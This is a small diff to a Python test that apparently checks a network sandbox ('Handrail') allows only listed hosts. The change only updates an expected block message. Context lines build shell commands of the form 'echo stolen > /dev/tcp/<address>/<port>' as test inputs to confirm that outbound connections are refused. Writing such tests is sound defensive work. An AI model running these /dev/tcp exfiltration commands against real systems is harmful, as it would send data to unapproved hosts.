@@ -53,7 +53,11 @@ def test_a_listed_host_is_reached_and_nothing_else(standing, way_out, made):
         get(OPEN, canary.port),
         *(f"echo stolen > /dev/tcp/{address}/{canary.port}" for address in (OPEN, "10.0.2.2", "192.0.2.1")),
     )
-    assert (said.count("\nhello\n"), said.count("held this back"), said.count("it is not on the list")) == (1, 2, 1)
+    assert (said.count("\nhello\n"), said.count("Blocked by Handrail"), said.count("it is not on the list")) == (
+        1,
+        2,
+        1,
+    )
     # bash says each twice.
     assert (said.count("Connection refused"), said.count("Network is unreachable")) == (2, 4)
     assert proxy.asked == ["good.test"]
